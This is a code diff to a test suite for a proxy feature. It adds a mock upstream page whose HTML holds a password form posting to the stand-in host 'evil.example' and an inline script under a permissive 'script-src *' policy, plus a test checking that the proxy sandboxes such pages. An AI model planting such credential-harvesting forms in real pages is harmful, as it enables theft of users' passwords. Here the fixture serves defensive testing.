@@ -50,6 +50,13 @@ function upstreamHandler(req: IncomingMessage, res: ServerResponse): void {
     releaseSecond = () => res.end('data: {"n":2}\nid: e-2\n\n');
     return;
   }
+  if (req.url === '/base/api/page') {
+    res.writeHead(200, { 'Content-Type': 'text/html', 'Content-Security-Policy': 'script-src *' });
+    res.end(
+      '<form action="https://evil.example/"><input name="password"></form><script>x()</script>',
+    );
+    return;
+  }
   if (req.url === '/base/api/sessions/s1/cut') {
     res.writeHead(200, { 'Content-Type': 'text/event-stream' });
     res.write('data: {"n":1}\n\n');
@@ -193,6 +200,15 @@ describe('--proxy', () => {
     await c.waitFor((m) => m.length >= 1);
     await c.ended;
     expect(c.wasCut()).toBe(true);
+  });
+
+  it("serves an upstream's page sandboxed: no script of it runs as Omniscope, no form submits", async () => {
+    const r = await fetch(`${app.url}/api/page`);
+    expect(r.headers.get('content-type')).toBe('text/html');
+    const csp = r.headers.get('content-security-policy') ?? '';
+    expect(csp.split(/;\s*/)).toContain('sandbox');
+    expect(csp).not.toContain('script-src');
+    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
   });
 
   it('answers 502 with the error shape when the target is down', async () => {
